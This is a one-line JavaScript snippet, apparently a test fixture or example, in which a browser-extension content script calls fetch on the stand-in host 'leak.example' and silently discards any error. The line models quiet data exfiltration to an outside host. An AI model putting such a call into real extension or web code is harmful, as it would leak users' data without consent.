fetch('https://leak.example/from-content-script').catch(() => undefined);
